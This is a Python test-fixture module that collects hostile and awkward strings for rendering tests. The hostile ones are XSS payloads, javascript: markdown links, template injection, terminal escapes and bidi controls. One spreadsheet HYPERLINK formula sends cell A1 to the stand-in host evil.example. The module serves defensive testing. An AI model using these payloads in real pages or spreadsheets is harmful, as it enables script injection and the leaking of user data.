"""Texts that somebody types to do harm, or by accident, in one place: every surface that shows rows is tried with all.

They set `window.hacked` where a browser runs them. What a register refuses (C0 controls) stands here too: a public.db
need not come from this program.
"""

from collections.abc import Mapping

LONG_CHINESE = "长" * 10_000
LONG_LATIN = "W" * 10_000  # one word: nothing says where it may break

# name -> text
TEXTS: Mapping[str, str] = {
    "script": "<script>window.hacked=1</script>",
    "handler": '"><img src=x onerror="window.hacked=1">',
    "title": "</title><script>window.hacked=1</script>",
    "markdown-link": "[点我](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "table": "| a | b |\n|---|---|\n| **粗** | `code` |",
    "template": "{{ config }} {% raw %} {: .x onclick=alert(1) }",
    "controls": "abc\u202edcba\u2066x\u2069 \u200b\ufeff\x07\x00",
    "four-byte": "𠮷野家 𪚥 👨‍👩‍👧",
    "blocks": "1. 一\n# 二\n- 三\n\n    四",
    "entities": "&lt;b&gt; &#60;i&#62; <!-- --> ]]> --- ===",
    "long": LONG_CHINESE,
    "address": "https://evil.example/a_b_c?x=1&y=2 <https://evil.example/>",
    "long-latin": LONG_LATIN,
    "svg": "</text></svg><svg onload=window.hacked=1><style>*{display:none}</style>",
    "quotes": "'\"`;window.hacked=1//\\\\'\u2028window.hacked=1//\u2029</SCRIPT ><ScRiPt>window.hacked=1</ScRiPt>",
    "terminal": "\x1b]0;hacked\x07\x1b[2J\x9b31m好\x9b0m\rok\x7f",
    "front-matter": "---\ntitle: 别的\n---\n<!-- ",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"看")',
    "separator": '+1,"2";\r\n@SUM(A1)',
}

# what spreadsheets take for a formula, with what they skip before it
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u3000=1", "\n=1", "＝1")


def acceptable(text: str) -> str:
    """Return *text* without what no device may sign (protocol, section 7): C0 controls but TAB, LF and CR, and DEL."""
    return "".join(sign for sign in text if sign in "\t\n\r" or not (sign < " " or sign == "\x7f"))
